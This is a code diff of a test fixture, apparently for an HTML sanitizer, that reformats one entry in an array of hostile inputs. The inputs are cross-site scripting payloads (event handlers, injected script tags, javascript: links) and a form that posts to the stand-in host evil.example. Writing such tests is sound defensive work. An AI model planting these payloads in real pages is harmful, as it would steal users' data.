@@ -79,7 +79,12 @@ const HOSTILE = [
   ['style', {}, '@import "https://evil.example/x"; body { display: none }'],
   ['div', { id: 'root', onmouseover: STEAL, style: 'background: url(https://evil.example/x)' }, '</div><script>', STEAL, '</script>'],
   ['svg', { onload: STEAL }, ['use', { href: 'https://evil.example/x#a' }], ['script', {}, STEAL]],
-  ['form', { action: 'https://evil.example/x', method: 'post' }, ['input', { name: 'email' }], ['button', { formaction: '//evil.example' }, 'Go']],
+  [
+    'form',
+    { action: 'https://evil.example/x', method: 'post' },
+    ['input', { name: 'email' }],
+    ['button', { formaction: '//evil.example' }, 'Go'],
+  ],
   ['a', { href: `javascript:${STEAL}` }, 'Out'],
   ['b', { class: 'k-evil' }, 'Hostile'],
 ];
